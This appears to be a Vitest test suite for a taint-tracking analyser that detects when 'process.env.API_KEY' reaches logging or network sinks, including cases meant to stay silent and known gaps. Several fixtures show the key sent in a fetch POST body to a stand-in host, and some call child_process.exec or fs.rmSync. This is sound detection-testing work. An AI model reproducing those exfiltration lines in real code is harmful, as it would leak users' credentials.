import { describe, expect, it } from 'vitest';

import { withModel } from './read.ts';

const SECRET = 'process.env.API_KEY';
const flows = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.flows().map((flow) => `${flow.source.name} > ${flow.sink.kind}`), { parser });
const origins = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser });

describe('secrets on the way through functions that are passed on', () => {
  it.each([
    [`const log = console.log.bind(console, ${SECRET}); log()`, 'log'],
    [`const f = fetch.bind(null, "https://a.example", { method: "POST", body: ${SECRET} }); f()`, 'network'],
    [`const send = fetch.bind(null, "https://a.example"); send({ body: ${SECRET} })`, 'network'],
    [`console.log.call(console, ${SECRET})`, 'log'],
    [`console.log.apply(console, [${SECRET}])`, 'log'],
    [`Reflect.apply(console.log, console, [${SECRET}])`, 'log'],
    [`function send(b) { fetch("https://a.example", { body: b }) } send.call(null, ${SECRET})`, 'network'],
    [`function send(b) { fetch("https://a.example", { body: b }) } send.apply(null, [${SECRET}])`, 'network'],
    [`function send(b) { fetch("https://a.example", { body: b }) } const s = send.bind(null, ${SECRET}); s()`, 'network'],
    [`const send = (a) => (b) => fetch("https://a.example", { body: a + b }); send(${SECRET})("x")`, 'network'],
    [`[${SECRET}].forEach((k) => console.log(k))`, 'log'],
    [`setTimeout((k) => console.log(k), 10, ${SECRET})`, 'log'],
    [`queueMicrotask(() => console.log(${SECRET}))`, 'log'],
    [`const get = () => ${SECRET}; console.log(get())`, 'log'],
    [`function* g() { yield ${SECRET} } for (const v of g()) console.log(v)`, 'log'],
    [`Promise.all([${SECRET}]).then(([k]) => console.log(k))`, 'log'],
  ])('%s', (code, sink) => {
    expect(flows(code)).toContain(`API_KEY > ${sink}`);
  });
});

describe('secrets on the way through containers', () => {
  it.each([
    [`const m = new Map(); m.set("k", ${SECRET}); console.log(m.get("k"))`],
    [`const m = new Map([["k", ${SECRET}]]); console.log(m.get("k"))`],
    [`const s = new Set([${SECRET}]); console.log([...s])`],
    [`const o = {}; o["a" + "b"] = ${SECRET}; console.log(o.ab)`],
    [`const o = Object.fromEntries([["k", ${SECRET}]]); console.log(o)`],
    [`const { a: { b: [c] } } = { a: { b: [${SECRET}] } }; console.log(c)`],
    [`const o = structuredClone({ k: ${SECRET} }); console.log(o.k)`],
    [`let s = ""; for (const c of ${SECRET}) s += c; console.log(s)`],
    [`const b = Buffer.concat([Buffer.from(${SECRET})]); console.log(b.toString())`],
    [`class A { constructor() { this.k = ${SECRET} } } class B extends A { go() { console.log(this.k) } }`],
    [`class A { static k = ${SECRET} } console.log(A.k)`],
    [`label: { const k = ${SECRET}; console.log(k); break label }`],
    [`const k = ${SECRET} ?? ""; console.log(k ||= "x")`],
    [`try { throw ${SECRET} } catch (e) { console.log(e) }`],
    [`const p = new Proxy({ k: ${SECRET} }, {}); console.log(p.k)`],
    [`const o = Object.create({ k: ${SECRET} }); console.log(o.k)`],
    [`globalThis.k = ${SECRET}; console.log(globalThis.k)`],
    [`var a = ${SECRET}, b = a, c = b; (function () { console.log(c) })()`],
  ])('%s', (code) => {
    expect(flows(code)).toContain('API_KEY > log');
  });
});

describe('TypeScript and newer syntax', () => {
  it.each([
    [`using k = { v: ${SECRET}, [Symbol.dispose]() {} }; console.log(k.v)`],
    [`await using k = { v: ${SECRET} }; console.log(k.v)`],
    [`@logged class A { @field() k = ${SECRET}; @bound go() { console.log(this.k) } }`],
    [`class A { accessor k = ${SECRET}; go() { console.log(this.k) } }`],
    [`const k = ${SECRET} as unknown as string; console.log(k!)`],
    [`const k = <string>${SECRET}; console.log(k satisfies string)`],
    [`namespace N { export const k = ${SECRET}; console.log(k) }`],
    [`enum E { A = 1 } const o = { [E.A]: ${SECRET} }; console.log(o[E.A])`],
    [`export default class { constructor(private readonly k = ${SECRET}) { console.log(k) } }`],
  ])('%s', (code) => {
    expect(flows(code, 'typescript')).toContain('API_KEY > log');
  });

  it.each([
    ['@Injectable() class A { @Inject() f = fetch; go() { this.f("x") } }', 'global:fetch'],
    ['using f = fetch; f("x")', 'global:fetch'],
    ['import type { x } from "a"; import fs = require("fs"); fs.rmSync("x")', 'fs.rmSync'],
    ['abstract class A { protected run = fetch } class B extends A { go() { this.run("x") } }', 'global:fetch'],
    ['const f: typeof fetch = fetch; f<string>("x")', 'global:fetch'],
  ])('%s', (code, origin) => {
    expect(origins(code, 'typescript')).toContain(origin);
  });
});

describe('JSX', () => {
  const jsx = (code: string): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser: 'espree' });
  it.each([
    ['const A = () => <a onClick={() => fetch("x")} />', 'global:fetch'],
    ['const A = () => <a>{fetch("x")}</a>', 'global:fetch'],
    ['const A = ({ f = fetch }) => <a {...f("x")} />', 'global:fetch'],
    ['import { exec } from "child_process"; const A = () => <><b c={exec("x")} /></>', 'child_process.exec'],
  ])('%s', (code, origin) => {
    expect(jsx(code)).toContain(origin);
  });
});

describe('bounds', () => {
  it('follows a secret through many writes', () => {
    const writes = Array.from({ length: 40 }, (_, index) => `if (x === ${index}) u = ${index};`).join('\n');
    expect(flows(`let u; ${writes}\nu = ${SECRET}; console.log(u)`)).toContain('API_KEY > log');
  });
});

describe('harmless look-alikes', () => {
  it.each([
    `const log = console.log.bind(console, "key"); log(); use(${SECRET})`,
    `const m = new Map(); m.set("k", ${SECRET}); m.set("l", 1); console.log(m.size)`,
    `const o = { k: ${SECRET}, port: 1 }; console.log(o.port)`,
    `class A { k = ${SECRET}; port = 1; go() { console.log(this.port) } }`,
    `class A { constructor() { this.k = ${SECRET} } } class B { go() { console.log(this.k) } }`,
    `const { k, ...rest } = { k: ${SECRET}, a: 1 }; console.log(rest.a)`,
    `import { createHash } from "crypto"; console.log(createHash("sha256").update(${SECRET}).digest("hex"))`,
    `console.log(Object.keys(process.env).length)`,
    `const [a, b] = [${SECRET}, 1]; console.log(b)`,
    `console.log(${SECRET} ? "set" : "missing")`,
    `console.log("API_KEY" in process.env)`,
    `const masked = ${SECRET}.slice(0, 0).length; console.log(masked)`,
    `function f(k) { return k.length } console.log(f(${SECRET}))`,
    `import { z } from "zod"; const env = z.object({}).parse(process.env); console.log(env.PORT)`,
    `const fs = { readFileSync(a) { return a } }; console.log(fs.readFileSync(".env"))`,
    `const ok = [${SECRET}].every(Boolean); console.log(ok)`,
  ])('%s', (code) => {
    expect(flows(code)).toEqual([]);
  });
});

describe('secrets through callbacks and getters', () => {
  it.each([
    [`[${SECRET}].map((k) => k.trim()).forEach(console.log)`],
    [`setTimeout(console.log, 10, ${SECRET})`],
    [`(async () => ${SECRET})().then(console.log)`],
    [`const o = { get k() { return ${SECRET} } }; console.log(o.k)`],
    [`class A { #k = ${SECRET}; get k() { return this.#k } } console.log(new A().k)`],
    [`class A { get k() { return ${SECRET} } send() { console.log(this.k) } }`],
    [`const { log } = console; [${SECRET}].forEach(log)`],
  ])('%s', (code) => {
    expect(flows(code)).toContain('API_KEY > log');
  });

  it.each([
    ['Object.keys(process.env).forEach(console.log)'],
    [`[${SECRET}].map((k) => k.length).forEach(console.log)`],
    [`class A { get k() { return Boolean(${SECRET}) } send() { console.log(this.k) } }`],
    [`[${SECRET}].forEach(encodeURIComponent); console.log("done")`],
  ])('%s gives nothing away', (code) => {
    expect(flows(code)).not.toContain('API_KEY > log');
  });
});

describe('known gaps', () => {
  const GAPS = [
    `const tag = (s, ...v) => v.join(""); console.log(tag\`x\${${SECRET}}\`)`,
    `const o = JSON.parse(JSON.stringify({ k: ${SECRET} })); console.log(o.k)`,
  ];
  for (const code of GAPS) {
    it.fails(code, () => {
      expect(flows(code)).toContain('API_KEY > log');
    });
  }
});
